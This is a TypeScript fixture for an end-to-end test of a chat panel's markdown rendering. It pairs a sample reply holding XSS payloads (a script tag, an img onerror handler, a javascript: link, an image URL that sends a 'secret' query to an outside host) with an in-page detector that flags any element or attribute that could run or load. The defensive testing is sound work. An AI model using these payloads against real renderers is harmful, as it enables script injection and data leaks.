/** For the e2e test: the reply it streams, and the inertness check it runs inside the panel page. */

export const CODE = 'def greet(name):\n    return f"Hello, {name}!"\n';

export function markdownReply(host: string): string {
  return [
    '## Results',
    '',
    '| Fruit | Count |',
    '|:------|------:|',
    '| apple | 3 |',
    '| pear | 10 |',
    '',
    `\`\`\`python\n${CODE}\`\`\``,
    '',
    'Read [the docs](https://ollama.com/docs) first.',
    '',
    '<script>alert("script")</script>',
    '',
    'Inline <img src=x onerror=alert("img")> and [click me](javascript:alert(1)).',
    '',
    `![x](${host}/leak.png?q=secret)`,
  ].join('\n');
}

/** Runs in the page: everything in the replies that could run or load, or links done wrong. */
export const inertProblems = (sel: string): string[] => {
  const out: string[] = [];
  const loads =
    'img,[src],[srcset],[style],[background],[poster],[action],[formaction],link,style,script,iframe,frame,object,embed,form,input,base,meta,svg,math,video,audio,source,picture,template';
  for (const root of document.querySelectorAll(sel)) {
    for (const el of root.querySelectorAll(loads)) out.push(el.outerHTML.slice(0, 120));
    for (const el of root.querySelectorAll('*')) {
      for (const a of el.attributes)
        if (/^on/i.test(a.name) || /javascript:|vbscript:|data:|url\(/i.test(a.value)) out.push(`<${el.localName} ${a.name}="${a.value}">`);
      if (el.localName === 'button' && !['md-copy', 'md-image', 'copy-button', 'link-button'].includes(el.className)) out.push(el.outerHTML);
      const href = el.localName === 'a' ? el.getAttribute('href') : null;
      if (href === null) continue;
      const protocol = URL.canParse(href) ? new URL(href).protocol : 'relative';
      if (!['http:', 'https:', 'mailto:'].includes(protocol)) out.push(`href ${href}`);
      if (el.getAttribute('target') !== '_blank' || el.getAttribute('rel') !== 'noopener noreferrer') out.push(`link ${el.outerHTML}`);
    }
  }
  return out;
};
